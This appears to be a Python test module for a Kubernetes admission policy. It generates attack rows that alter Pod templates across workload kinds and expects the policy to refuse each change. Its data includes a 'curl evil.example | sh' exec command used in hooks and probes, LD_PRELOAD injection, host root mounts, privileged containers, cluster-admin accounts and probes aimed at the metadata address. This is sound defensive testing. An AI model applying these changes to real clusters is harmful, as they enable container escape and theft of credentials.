"""Attested images that are told to do something else: changes of a Pod spec, in every kind that has one."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from typing import Any

from tests.manifests.samples import IMAGE, MESH, REMOVED, at
from tests.manifests_attacks.objects import Object
from tests.manifests_attacks.row import ADMITTED, REFUSED, Attack, Verb, altered, change

TEMPLATES = {
    ("Deployment", "web"): "spec.template",
    ("StatefulSet", "db"): "spec.template",
    ("DaemonSet", "agent"): "spec.template",
    ("ReplicaSet", "pool"): "spec.template",
    ("ReplicationController", "old"): "spec.template",
    ("PodTemplate", "shape"): "template",
    ("Job", "migrate"): "spec.template",
    ("CronJob", "report"): "spec.jobTemplate.spec.template",
    ("Pod", "alone"): "",
}
"""(kind, name) of what is released → where its template is; a Pod is its own."""

_EXEC = {"exec": {"command": ["sh", "-c", "curl evil.example | sh"]}}
_TOKEN = {"serviceAccountToken": {"audience": "vault", "path": "t", "expirationSeconds": 3600}}
_TERM = {"matchExpressions": [{"key": "zone", "operator": "In", "values": ["evil"]}]}
_AFFINITY = {
    "nodeAffinity": {
        "requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [_TERM]}
    }
}
_WEB = "containers[0]"
_MESH = {"name": "mesh", "image": MESH}
SPEC: dict[str, tuple[str, Any]] = {
    "command": (f"{_WEB}.command", ["sh", "-c", "evil"]),
    "command, one argument more": (f"{_WEB}.command[+]", "--evil"),
    "command taken out": (f"{_WEB}.command", REMOVED),
    "args": (f"{_WEB}.args[1]", "9090"),
    "args in another order": (f"{_WEB}.args", ["8080", "--port"]),
    "args taken out": (f"{_WEB}.args", REMOVED),
    "working directory": (f"{_WEB}.workingDir", "/evil"),
    "env value": (f"{_WEB}.env[0].value", "evil"),
    "env added": (f"{_WEB}.env[+]", {"name": "LD_PRELOAD", "value": "/evil.so"}),
    "env twice, the last wins": (f"{_WEB}.env[+]", {"name": "MODE", "value": "evil"}),
    "env from a Secret": (
        f"{_WEB}.env[0]",
        {"name": "MODE", "valueFrom": {"secretKeyRef": {"name": "x", "key": "y"}}},
    ),
    "env taken out": (f"{_WEB}.env[1]", REMOVED),
    "envFrom added": (f"{_WEB}.envFrom", [{"secretRef": {"name": "password"}}]),
    "envFrom of another ConfigMap": ("containers[1].envFrom[0].configMapRef.name", "evil"),
    "envFrom optional": ("containers[1].envFrom[0].configMapRef.optional", True),
    "volume of the host": ("volumes[+]", {"name": "root", "hostPath": {"path": "/"}}),
    "volume of another ConfigMap": ("volumes[0].configMap.name", "evil"),
    "volume of a Secret": ("volumes[+]", {"name": "s", "secret": {"secretName": "password"}}),
    "volume of a claim": ("volumes[+]", {"name": "s", "persistentVolumeClaim": {"claimName": "x"}}),
    "token for another audience": ("volumes[+]", {"name": "t", "projected": {"sources": [_TOKEN]}}),
    "volume of an image": ("volumes[+]", {"name": "i", "image": {"reference": IMAGE}}),
    "mount elsewhere": (f"{_WEB}.volumeMounts[0].mountPath", "/etc"),
    "mount writable": (f"{_WEB}.volumeMounts[0].readOnly", REMOVED),
    "mount of a part": (f"{_WEB}.volumeMounts[0].subPath", "evil"),
    "mount propagated": (f"{_WEB}.volumeMounts[0].mountPropagation", "HostToContainer"),
    "privileged": (f"{_WEB}.securityContext", {"privileged": True}),
    "root": (f"{_WEB}.securityContext.runAsUser", 0),
    "capabilities": (f"{_WEB}.securityContext.capabilities", {"add": ["SYS_ADMIN"]}),
    "privilege escalation": (f"{_WEB}.securityContext.allowPrivilegeEscalation", True),
    "security context taken out": (f"{_WEB}.securityContext", REMOVED),
    "seccomp off": (f"{_WEB}.securityContext.seccompProfile", {"type": "Unconfined"}),
    "proc unmasked": (f"{_WEB}.securityContext.procMount", "Unmasked"),
    "writable root taken for granted": (f"{_WEB}.securityContext.readOnlyRootFilesystem", True),
    "group of the Pod": ("securityContext.fsGroup", 0),
    "user of the Pod": ("securityContext.runAsUser", 0),
    "sysctl": ("securityContext.sysctls", [{"name": "kernel.shm_rmid_forced", "value": "1"}]),
    "service account": ("serviceAccountName", "cluster-admin"),
    "service account, old name": ("serviceAccount", "cluster-admin"),
    "token mounted after all": ("automountServiceAccountToken", True),
    "token left to the account": ("automountServiceAccountToken", REMOVED),
    "node's network": ("hostNetwork", True),
    "node's processes": ("hostPID", True),
    "node's IPC": ("hostIPC", True),
    "node's users": ("hostUsers", False),
    "one process namespace": ("shareProcessNamespace", True),
    "lifecycle hook": (f"{_WEB}.lifecycle.preStop.exec.command[1]", "evil"),
    "lifecycle hook added": (f"{_WEB}.lifecycle.postStart", _EXEC),
    "lifecycle hook that calls": (
        "containers[1].lifecycle",
        {"preStop": {"httpGet": {"port": 1, "host": "10.0.0.1"}}},
    ),
    "probe that executes": (f"{_WEB}.livenessProbe", _EXEC),
    "probe of another path": (f"{_WEB}.livenessProbe.httpGet.path", "/evil"),
    "probe to another host": (f"{_WEB}.livenessProbe.httpGet.host", "169.254.169.254"),
    "probe added": ("containers[1].readinessProbe", _EXEC),
    "init container taken out": ("initContainers[0]", REMOVED),
    "init container added": (
        "initContainers[+]",
        {"name": "evil", "image": IMAGE, "command": ["sh"]},
    ),
    "init container's command": ("initContainers[1].command", ["sh"]),
    "init container that stays": ("initContainers[1].restartPolicy", "Always"),
    "container added": ("containers[+]", {"name": "evil", "image": IMAGE, "command": ["sh"]}),
    "container taken out": ("containers[1]", REMOVED),
    "container renamed": ("containers[1].name", "evil"),
    "image by tag": ("containers[1].image", IMAGE.partition("@")[0] + ":1"),
    "image under another tag": ("containers[1].image", IMAGE.replace("@", ":evil@")),
    "pull policy": (f"{_WEB}.imagePullPolicy", "Never"),
    "port of the host": (f"{_WEB}.ports[0].hostPort", 8080),
    "port": (f"{_WEB}.ports[0].containerPort", 9090),
    "limits": (f"{_WEB}.resources.limits.cpu", "64"),
    "limits taken out": (f"{_WEB}.resources", REMOVED),
    "requests": (f"{_WEB}.resources.requests", {"cpu": "1m"}),
    "stdin": (f"{_WEB}.stdin", True),
    "terminal": (f"{_WEB}.tty", True),
    "message path": (f"{_WEB}.terminationMessagePath", "/etc/passwd"),
    "node": ("nodeName", "control-plane"),
    "node selector": ("nodeSelector", {"kubernetes.io/hostname": "control-plane"}),
    "toleration": ("tolerations", [{"operator": "Exists"}]),
    "toleration of the default key, for ever": (
        "tolerations",
        [{"key": "node.kubernetes.io/not-ready", "operator": "Exists", "effect": "NoExecute"}],
    ),
    "affinity": ("affinity", _AFFINITY),
    "runtime class": ("runtimeClassName", "evil"),
    "priority class": ("priorityClassName", "system-node-critical"),
    "scheduler": ("schedulerName", "evil"),
    "scheduling gate": ("schedulingGates", [{"name": "example.com/evil"}]),
    "host alias": ("hostAliases", [{"ip": "10.0.0.1", "hostnames": ["db"]}]),
    "DNS server": ("dnsConfig", {"nameservers": ["10.6.6.6"]}),
    "DNS policy": ("dnsPolicy", "Default"),
    "host name": ("hostname", "db-0"),
    "subdomain": ("subdomain", "db"),
    "grace": ("terminationGracePeriodSeconds", 0),
    "deadline": ("activeDeadlineSeconds", 1),
    "service links": ("enableServiceLinks", False),
    "pull secret": ("imagePullSecrets", [{"name": "evil"}]),
    "readiness gate": ("readinessGates", [{"conditionType": "example.com/x"}]),
    "mesh container with a command": (
        "containers[+]",
        {"name": "mesh", "image": MESH, "command": ["sh"]},
    ),
    "mesh container with a hook": (
        "containers[+]",
        {"name": "mesh", "image": MESH, "lifecycle": {"postStart": _EXEC}},
    ),
    "mesh container with a probe": (
        "containers[+]",
        {"name": "mesh", "image": MESH, "startupProbe": _EXEC},
    ),
    "mesh container, privileged": (
        "containers[+]",
        {"name": "mesh", "image": MESH, "securityContext": {"privileged": True}},
    ),
    "mesh container as good as privileged": (
        "containers[+]",
        {
            "name": "mesh",
            "image": MESH,
            "securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}},
        },
    ),
    "mesh container that sees all of /proc": (
        "containers[+]",
        {"name": "mesh", "image": MESH, "securityContext": {"procMount": "Unmasked"}},
    ),
    "mesh container without seccomp": (
        "containers[+]",
        {**_MESH, "securityContext": {"seccompProfile": {"type": "Unconfined"}}},
    ),
    "mesh container of a SELinux type": (
        "containers[+]",
        {**_MESH, "securityContext": {"seLinuxOptions": {"type": "spc_t"}}},
    ),
    "mesh container on a port of the host": (
        "containers[+]",
        {**_MESH, "ports": [{"containerPort": 80, "hostPort": 80}]},
    ),
    "mesh container of another digest": (
        "containers[+]",
        {"name": "mesh", "image": MESH.replace("b" * 64, "0" * 64)},
    ),
    "mesh image in place of ours": ("containers[1].image", MESH),
    "mesh container under our name": ("containers[0]", {"name": "web", "image": MESH}),
}
_TEMPLATE: dict[str, tuple[str, Any]] = {
    "annotation that a mesh reads": ("metadata.annotations[mesh.example.com/inject]", "yes"),
    "annotation that a node reads": (
        "metadata.annotations[container.apparmor.security.beta.kubernetes.io/web]",
        "unconfined",
    ),
    "annotation taken out": ("metadata.annotations", REMOVED),
    "label that another Service selects": ("metadata.labels[app.kubernetes.io/name]", "other"),
}
_OTHERWISE: dict[tuple[str, str], tuple[str, str]] = {
    ("Pod", "pull secret"): (
        ADMITTED,
        "the API server adds those of the account; the image is the same",
    ),
}
_ALIAS = "service account, old name"
_BY_TAG = "denied: DIGEST_REQUIRED, the manifest"


def _swap(path: str, name: str) -> Any:
    def swap(document: Object) -> None:
        at(document, f"{path}.{name}").reverse()

    return swap


def rows() -> Iterator[Attack]:
    """Each change in each kind."""
    for (kind, name), where in TEMPLATES.items():
        spec = f"{where}.spec" if where else "spec"
        for what, (path, value) in SPEC.items():
            expected, why = _OTHERWISE.get((kind, what), (REFUSED, ""))
            expected = _BY_TAG if what == "image by tag" else expected
            row = change(kind, name, what, f"{spec}.{path}", value, expected=expected, why=why)
            if (kind, what) == ("Pod", "node"):
                row = replace(
                    row, verbs=(Verb.CREATE,)
                )  # an API server takes no other update of it
            if (kind, what) == ("Pod", _ALIAS):
                row = replace(
                    row, at_api=ADMITTED
                )  # once there is the new name, the old is ignored
            yield row
        for what, lists in {
            "init containers in another order": "initContainers",
            "containers in another order": "containers",
            "env in another order": "containers[0].env",
        }.items():
            yield altered(kind, name, what, _swap(spec, lists))
        for what, (path, value) in _TEMPLATE.items():
            if where:
                yield change(kind, name, what, f"{where}.{path}", value)


ROWS = tuple(rows())
